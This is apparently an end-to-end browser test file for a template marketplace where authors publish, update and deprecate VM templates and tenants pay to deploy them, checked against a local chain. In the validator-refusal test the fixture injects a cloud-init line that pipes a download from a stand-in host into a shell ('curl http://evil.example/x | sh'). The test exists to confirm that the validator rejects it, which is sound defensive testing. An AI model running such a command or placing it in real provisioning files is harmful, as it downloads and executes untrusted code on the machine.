// The template author's journey in real Chromium against a real local network: a bundle the
// validator refuses (its reasons shown, nothing signable), a valid one published on
// TemplateMarket, a tenant's deploy that pays it, the author's earnings withdrawn to the
// micro-USDC, an update and a deprecation. After each step TemplateMarket is read directly.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { createPublicClient, http } from 'viem';
import { checkPage, confirmTx, connectWallet, signIn } from './support/app.mjs';
import { launchBrowser } from './support/browser.mjs';
import { api, chainReader, eventually, sessionOf } from './support/chain.mjs';
import { abiOf, repoRoot, startNetwork } from './support/network.mjs';
import { installWallet } from './support/wallet.mjs';

const USDC = 1_000_000n;
const seed = (name) => readFileSync(join(repoRoot, 'templates', 'seed', 'postgresql', name), 'utf8');
// The seed bundle under another slug, so this template is the author's own.
const MANIFEST = seed('template.toml').replace(/^slug = ".*"$/m, 'slug = "author-journey-db"').replace(/^name = ".*"$/m, 'name = "Author journey DB"');
const USER_DATA = seed('user-data');
const file = (name, text) => ({ name, mimeType: 'text/plain', buffer: Buffer.from(text) });

describe('template author journey', () => {
  let network;
  let browser;
  let page;
  let chain;
  let market;
  let author;
  let tenant;
  let templateId;
  let publishedCid;
  let authorToken;

  before(async () => {
    network = await startNetwork();
    chain = chainReader(network);
    const client = createPublicClient({ transport: http(network.rpcUrl) });
    const contract = { address: network.deployment.contracts.templateMarket.address, abi: abiOf('TemplateMarket') };
    market = {
      get: (id) => client.readContract({ ...contract, functionName: 'getTemplate', args: [BigInt(id)] }),
      earnings: (who) => client.readContract({ ...contract, functionName: 'earningsOf', args: [who] }),
      split: (price) => client.readContract({ ...contract, functionName: 'splitPrice', args: [price] }),
    };
    author = network.accounts[4];
    tenant = network.accounts[5];
    browser = await launchBrowser();
    page = await browser.newPage();
    await installWallet(page, { privateKey: author.privateKey, rpcUrl: network.rpcUrl, chainId: 31337 });
    await connectWallet(page, network.appUrl);
    // The orchestrator stores an author's bundles for their session.
    authorToken = await signIn(page);
  });

  after(async () => {
    await browser?.close();
    await network?.stop();
  });

  test('a bundle the validator refuses shows every reason, and nothing can be signed', async () => {
    await page.getByRole('link', { name: 'Publish' }).click();
    const form = page.getByTestId('bundle-form');
    await form.getByLabel('template.toml').setInputFiles(file('template.toml', MANIFEST));
    await form.getByLabel(/^user-data/).setInputFiles(file('user-data', `${USER_DATA}\nruncmd:\n  - curl http://evil.example/x | sh\n`));
    const nonce = await chain.nonce(author.address);
    await form.getByRole('button', { name: 'Check with the validator' }).click();
    await form.getByText('Refused by the validator').waitFor();
    const reasons = await form.getByTestId('rejections').locator('li').allInnerTexts();
    assert.ok(reasons.length > 0);
    assert.ok(reasons.every((r) => r.startsWith('user-data')), reasons.join('\n'));
    assert.equal(await form.getByRole('button', { name: 'Review publication' }).count(), 0);
    assert.equal(await chain.nonce(author.address), nonce, 'nothing sent');
  });

  test('a template.toml that does not parse is refused in words', async () => {
    const form = page.getByTestId('bundle-form');
    await form.getByLabel('template.toml').setInputFiles(file('template.toml', 'name = ['));
    await form.getByLabel(/^user-data/).setInputFiles(file('user-data', USER_DATA));
    await form.getByRole('button', { name: 'Check with the validator' }).click();
    await form.getByRole('alert').filter({ hasText: 'template.toml does not parse' }).waitFor();
  });

  test('publishes a valid bundle: the verdict first, then TemplateMarket holds its CID, price and metadata', async () => {
    const form = page.getByTestId('bundle-form');
    await form.getByLabel('template.toml').setInputFiles(file('template.toml', MANIFEST));
    await form.getByLabel(/^user-data/).setInputFiles(file('user-data', USER_DATA));
    await form.getByLabel('Price per deploy (USDC)').fill('1.5');
    await form.getByRole('button', { name: 'Check with the validator' }).click();
    await form.getByText('Passes the validator:').waitFor();
    publishedCid = await form.getByTestId('verdict-cid').innerText();
    assert.match(publishedCid, /^b[a-z2-7]{20,}$/, 'a CIDv1 in base32');
    await form.getByRole('button', { name: 'Review publication' }).click();
    await confirmTx(page, 'Publish author-journey-db');
    // The bundle was stored in the orchestrator's content store before anything was signed.
    assert.equal(await form.getByTestId('draft-stored').innerText(), `Stored as your draft ${publishedCid}.`);
    const drafts = (await api(network, '/templates/drafts', authorToken)).body;
    assert.deepEqual(
      drafts.map((d) => [d.cid, d.slug, d.author]),
      [[publishedCid, 'author-journey-db', author.address.toLowerCase()]],
    );
    const shown = await form.getByTestId('published-id').innerText();
    templateId = shown.match(/template (\d+)/)[1];
    const t = await market.get(templateId);
    assert.equal(t.author, author.address);
    assert.equal(t.price, 1_500_000n);
    assert.equal(t.cid, publishedCid);
    assert.equal(t.deprecated, false);
    const metadata = JSON.parse(t.metadata);
    assert.equal(metadata.slug, 'author-journey-db');
    assert.equal(metadata.name, 'Author journey DB');
    await page.getByTestId(`template-${templateId}`).getByTestId('template-status').getByText('listed').waitFor();
  });

  test('a tenant deploys it: the author earns their share, withdrawn to the micro-USDC', async () => {
    const [share] = await market.split(1_500_000n);
    assert.equal(await market.earnings(author.address), 0n);
    // The tenant's lease, opened from outside the app (the tenant journey covers deploys).
    const escrowAddress = network.deployment.contracts.leaseEscrow.address;
    await chain.usdcAs(tenant.privateKey, 'approve', [escrowAddress, 10n * USDC]);
    await chain.escrowAs(tenant.privateKey, 'deposit', [10n * USDC]);
    const resources = { vcpus: 1, memoryGiB: 1, storageGiB: 2, gpus: 0 };
    const rate = await chain.quoteRate(network.nodeId, resources, 3, 0);
    await chain.escrowAs(tenant.privateKey, 'openLease', [network.nodeId, resources, 3, 0, BigInt(templateId), 1_500_000n, rate, 1n * USDC]);
    const leaseId = String(await chain.leaseCount());
    assert.equal(await market.earnings(author.address), share);
    // Published from the browser, it deploys: the orchestrator fetched the bundle by its CID from
    // its content store (where the page stored it), lists it under its id, and the tenant's VM
    // runs it on the node.
    const listed = await eventually('the orchestrator lists the template by its id', async () => {
      const t = await api(network, `/templates/${templateId}`);
      return t.status === 200 && t.body;
    });
    assert.equal(listed.cid, publishedCid);
    assert.equal(String(listed.template_id), templateId);
    assert.equal(listed.name, 'Author journey DB');
    const tenantToken = await sessionOf(network, tenant.privateKey);
    await eventually('the tenant’s VM of the template runs', async () => {
      const vm = (await api(network, '/vms', tenantToken)).body?.find((v) => String(v.lease_id) === leaseId);
      assert.notEqual(vm?.state, 'failed', `the VM failed: ${JSON.stringify(vm)}`);
      return vm?.state === 'running';
    }, 60_000);
    const shown = `${(Number(share) / 1e6).toFixed(6).replace(/0{1,4}$/, '')} USDC`;
    await eventually('the page shows the earnings', async () => (await page.getByTestId('author-earnings').innerText()) === shown);

    const walletBefore = await chain.usdcBalance(author.address);
    await page.getByRole('button', { name: 'Withdraw earnings' }).click();
    await confirmTx(page, 'Withdraw');
    assert.equal(await chain.usdcBalance(author.address), walletBefore + share);
    assert.equal(await market.earnings(author.address), 0n);
    await eventually('the page shows nothing left', async () => (await page.getByTestId('author-earnings').innerText()) === '0.00 USDC');
  });

  test('updates the template: a new bundle and price, checked by the validator first', async () => {
    const row = page.getByTestId(`template-${templateId}`);
    await row.getByRole('button', { name: 'Update' }).click();
    const form = page.getByTestId(`bundle-form-${templateId}`);
    const changed = MANIFEST.replace(/^description = ".*"$/m, 'description = "PostgreSQL, now with a new description."');
    assert.notEqual(changed, MANIFEST);
    await form.getByLabel('template.toml').setInputFiles(file('template.toml', changed));
    await form.getByLabel(/^user-data/).setInputFiles(file('user-data', USER_DATA));
    await form.getByLabel('Price per deploy (USDC)').fill('2.000001');
    await form.getByRole('button', { name: 'Check with the validator' }).click();
    await form.getByText('Passes the validator:').waitFor();
    const cid = await form.getByTestId(`verdict-cid-${templateId}`).innerText();
    assert.notEqual(cid, publishedCid);
    // Test-deployed first: stored as a draft and armed for the author's next plain lease.
    await form.getByRole('button', { name: 'Test-deploy this draft' }).click();
    await form.getByTestId(`draft-armed-${templateId}`).getByText(`Draft ${cid} is armed: your next lease opened without a template`).waitFor();
    const drafts = (await api(network, '/templates/drafts', authorToken)).body.map((d) => d.cid);
    assert.ok(drafts.includes(cid), 'the new bundle is stored');
    await form.getByRole('button', { name: 'Review update' }).click();
    await confirmTx(page, `Update template ${templateId}`);
    const t = await market.get(templateId);
    assert.equal(t.cid, cid);
    assert.equal(t.price, 2_000_001n);
    assert.equal(t.author, author.address);
  });

  test('/author: no serious accessibility violation, and it fits 375 px', async () => {
    await checkPage(page, network.appUrl, '/author', 'Publish templates', assert);
  });

  test('deprecates the template: TemplateMarket refuses new deploys of it', async () => {
    const row = page.getByTestId(`template-${templateId}`);
    await row.getByRole('button', { name: 'Deprecate' }).click();
    await confirmTx(page, `Deprecate template ${templateId}`);
    assert.equal((await market.get(templateId)).deprecated, true);
    await row.getByTestId('template-status').getByText('deprecated').waitFor();
    assert.equal(await row.getByRole('button', { name: 'Deprecate' }).count(), 0);
    const resources = { vcpus: 1, memoryGiB: 1, storageGiB: 2, gpus: 0 };
    const rate = await chain.quoteRate(network.nodeId, resources, 3, 0);
    const abi = [...abiOf('LeaseEscrow'), ...abiOf('TemplateMarket').filter((x) => x.type === 'error')];
    await assert.rejects(
      chain.client.simulateContract({
        address: network.deployment.contracts.leaseEscrow.address,
        abi,
        functionName: 'openLease',
        args: [network.nodeId, resources, 3, 0, BigInt(templateId), 2_000_001n, rate, 1n * USDC],
        account: tenant.address,
      }),
      /TemplateIsDeprecated/,
    );
  });
});
